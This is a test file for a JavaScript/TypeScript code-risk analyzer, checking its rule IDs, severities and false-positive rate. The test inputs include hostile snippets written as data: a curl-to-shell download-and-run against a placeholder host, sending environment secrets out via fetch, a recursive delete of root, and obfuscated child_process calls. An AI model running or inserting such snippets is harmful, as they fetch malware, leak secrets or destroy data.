import { beforeAll, describe, expect, it } from "vitest";
import { Analyzer, CATEGORIES, SEVERITIES, type Analysis, type Severity } from "../../src/features/governance/index.js";
import { benignAlgorithms } from "../fixtures/analysis/javascript/benign-algorithms.js";
import { benignApps } from "../fixtures/analysis/javascript/benign-apps.js";
import { benignData } from "../fixtures/analysis/javascript/benign-data.js";
import { maliciousCases } from "../fixtures/analysis/javascript/malicious.js";

const analyzer = new Analyzer();
beforeAll(() => analyzer.ready());

const atLeast = (severity: Severity, floor: Severity): boolean => SEVERITIES.indexOf(severity) >= SEVERITIES.indexOf(floor);
const isAlarm = (severity: Severity): boolean => atLeast(severity, "high");
const js = (code: string): Promise<Analysis> => analyzer.analyze("javascript", code);
const ts = (code: string): Promise<Analysis> => analyzer.analyze("typescript", code);

describe("JavaScript/TypeScript analysis: malicious corpus", () => {
  it("has at least 60 cases covering every category", () => {
    expect(maliciousCases.length).toBeGreaterThanOrEqual(60);
    const covered = new Set(maliciousCases.map((c) => c.expect.category));
    expect(CATEGORIES.filter((category) => !covered.has(category))).toEqual([]);
    expect(maliciousCases.some((c) => c.language === "typescript")).toBe(true);
  });

  for (const c of maliciousCases) {
    it(`finds ${c.expect.category} at ${c.expect.minSeverity} or above: ${c.name}`, async () => {
      const analysis = await analyzer.analyze(c.language ?? "javascript", c.code);
      const hit = analysis.findings.find((f) => f.category === c.expect.category && atLeast(f.severity, c.expect.minSeverity));
      expect(hit, JSON.stringify(analysis.findings.map((f) => `${f.severity} ${f.ruleId}`))).toBeDefined();
    });
  }
});

describe("JavaScript/TypeScript analysis: benign programs", () => {
  const benign = [...benignAlgorithms, ...benignData, ...benignApps];

  it("has at least 150 programs, JavaScript and TypeScript", () => {
    expect(benign.length).toBeGreaterThanOrEqual(150);
    expect(benign.filter((c) => c.language === "typescript").length).toBeGreaterThanOrEqual(30);
    expect(new Set(benign.map((c) => c.name)).size).toBe(benign.length);
  });

  it("raise at most one high or critical finding over the whole set", async () => {
    const alarms: string[] = [];
    for (const c of benign) {
      const analysis = await analyzer.analyze(c.language ?? "javascript", c.code);
      for (const f of analysis.findings) if (isAlarm(f.severity)) alarms.push(`${c.name}: ${f.severity} ${f.ruleId} line ${f.line}`);
    }
    if (alarms.length > 0) console.log(`high/critical on benign programs:\n${alarms.join("\n")}`);
    expect(alarms.length).toBeLessThanOrEqual(1);
  });

  it("parse without errors, so the corpus is real code", async () => {
    for (const c of benign) expect((await analyzer.analyze(c.language ?? "javascript", c.code)).metrics.parseErrors, c.name).toBe(0);
  });
});

describe("JavaScript/TypeScript analysis: rules", () => {
  it("reports the line and column of the call", async () => {
    const analysis = await js(`const a = process.argv[2];\nconst cp = require("child_process");\n\n  cp.exec(\`ls \${a}\`);\n`);
    const finding = analysis.findings.find((f) => f.ruleId === "js.process-exec.shell-command");
    expect(finding).toMatchObject({ line: 4, endLine: 4, column: 3, severity: "high" });
    expect(finding?.message).toContain("child_process.exec");
    expect(finding?.recommendation).not.toBe("");
  });

  it("spans every line of a multi-line call", async () => {
    const analysis = await js(`eval(\n  userInput\n);`);
    expect(analysis.findings[0]).toMatchObject({ ruleId: "js.code-exec.eval", line: 1, endLine: 3, column: 1 });
  });

  it("follows TypeScript syntax: casts, non-null assertions, generics, enums and decorators around a sink", async () => {
    const analysis = await ts(
      [
        `import { exec as run } from "node:child_process";`,
        `enum Mode { Fast, Slow }`,
        `function sealed(target: Function): void { Object.seal(target); }`,
        `@sealed class Runner<T extends string> {`,
        `  constructor(private readonly cmd: T, readonly mode: Mode = Mode.Fast) {}`,
        `  go(): void { run((this.cmd as string)!); }`,
        `}`,
        `const x = <any>globalThis;`,
        `(x as typeof globalThis).eval(process.argv[2]!);`,
      ].join("\n"),
    );
    const rules = analysis.findings.map((f) => `${f.ruleId}:${f.line}`);
    expect(rules).toContain("js.process-exec.shell-command:6");
    expect(rules).toContain("js.code-exec.eval:9");
    expect(analysis.metrics.parseErrors).toBe(0);
    expect(analysis.metrics.functions).toBeGreaterThanOrEqual(3);
  });

  it("resolves names built from strings, char codes, base64 and aliases", async () => {
    const cases = [
      `const m = require("child_" + "process"); m.execSync(x);`,
      `const n = String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115); require(n).exec(y);`,
      `const { ["ex" + "ec"]: e } = require("child_process"); e(z);`,
      "const cp = require(`child_${'process'}`); const f = cp['exec' + 'Sync']; f(w);",
      `const q = require(atob("Y2hpbGRfcHJvY2Vzcw==")); q.spawn(v, { shell: true });`,
    ];
    for (const code of cases) {
      const analysis = await js(code);
      expect(analysis.findings.some((f) => f.category === "process-exec" && atLeast(f.severity, "high")), code).toBe(true);
    }
  });

  it("grades severities as documented", async () => {
    const table: [string, string, Severity][] = [
      [`eval("1 + 1")`, "js.code-exec.eval", "low"],
      [`eval(input)`, "js.code-exec.eval", "high"],
      [`require("child_process").execFile("git", ["status"])`, "js.process-exec.spawn", "medium"],
      [`require("child_process").exec("ls -l")`, "js.process-exec.shell-command", "medium"],
      [`require("child_process").exec("ls " + dir)`, "js.process-exec.shell-command", "high"],
      [`fetch("https://api.example.com/x")`, "js.network.http-client", "info"],
      [`fs.rmSync(dir, { recursive: true })`, "js.filesystem.rm-rf-variable", "medium"],
      [`fs.rmSync("/", { recursive: true })`, "js.filesystem.rm-rf-root", "critical"],
      [`fs.chmodSync(f, 0o777)`, "js.filesystem.world-writable", "high"],
      [`new https.Agent({ rejectUnauthorized: false })`, "js.network.tls-disabled", "high"],
      [`require(name)`, "js.code-exec.dynamic-import", "medium"],
      [`a.__proto__.b = 1`, "js.prototype-pollution.proto-write", "high"],
      [`fetch(u, { body: JSON.stringify(process.env) })`, "js.exfiltration.send-secrets", "critical"],
      [`eval(atob("YWxlcnQoMSk="))`, "js.obfuscation.decoded-exec", "critical"],
    ];
    for (const [code, ruleId, severity] of table) {
      const analysis = await js(code);
      expect(analysis.findings.find((f) => f.ruleId === ruleId)?.severity, `${code} -> ${ruleId}`).toBe(severity);
    }
  });

  it("treats the program's own functions and variables as shadowing builtins of the same name", async () => {
    const analysis = await js(`function exec(cmd) { return cmd.length; }\nconst spawn = (x) => x * 2;\nexec(input);\nspawn(value);\nconst eval2 = eval;\n`);
    expect(analysis.findings.filter((f) => f.category === "process-exec")).toEqual([]);
    const snippet = await js(`execSync("curl -s http://x.example/i | sh")`);
    expect(snippet.findings.some((f) => f.category === "download-exec" && f.severity === "critical")).toBe(true);
  });

  it("runs node itself through process.execPath as a fixed program", async () => {
    const analysis = await js(`require("child_process").execFileSync(process.execPath, ["-e", "console.log(1)"]);`);
    expect(analysis.findings.map((f) => `${f.ruleId}:${f.severity}`)).toEqual(["js.process-exec.spawn:medium"]);
  });

  it("scores a critical program as critical and a plain one as none", async () => {
    const bad = await js(`require("child_process").execSync("curl -s http://x.example/a | sh")`);
    expect(bad.level).toBe("critical");
    expect(bad.risk).toBeGreaterThanOrEqual(90);
    const plain = await js(`const xs = [3, 1, 2].sort(); console.log(xs);`);
    expect(plain).toMatchObject({ level: "none", risk: 0, findings: [] });
  });

  it("analyses broken code without throwing and still finds what parses", async () => {
    const analysis = await js(`const x = ;\neval(userInput);\nfunction broken( {\n`);
    expect(analysis.metrics.parseErrors).toBeGreaterThan(0);
    expect(analysis.findings.some((f) => f.category === "code-exec")).toBe(true);
    await expect(ts(`class <T> { : : }`)).resolves.toBeDefined();
  });

  it("finishes a 200 KB program", async () => {
    const unit = `function f$(a, b) {\n  const out = [];\n  for (let i = 0; i < a.length; i++) if (a[i] > b) out.push(a[i] * 2);\n  return out.reduce((s, x) => s + x, 0);\n}\nconsole.log(f$([1, 2, 3], 1));\n`;
    let code = "";
    for (let i = 0; code.length < 200_000; i++) code += unit.replaceAll("$", String(i));
    code += `require("child_process").exec(cmd);\n`;
    const analysis = await js(code);
    expect(analysis.metrics.bytes).toBeGreaterThanOrEqual(200_000);
    expect(analysis.metrics.functions).toBeGreaterThan(1000);
    expect(analysis.findings.some((f) => f.ruleId === "js.process-exec.shell-command")).toBe(true);
  });

  it("counts functions, calls, imports and branches", async () => {
    const analysis = await js(`import fs from "fs";\nimport { join } from "path";\nfunction a(x) { if (x) return 1; return x ? 2 : 3; }\nconst b = () => a(1);\nclass C { m() { for (const k of []) {} } }\nb(); fs.readFileSync(join("a", "b"));`);
    expect(analysis.metrics).toMatchObject({ functions: 3, imports: 2, calls: 4, cyclomatic: 4, parseErrors: 0 });
  });
});
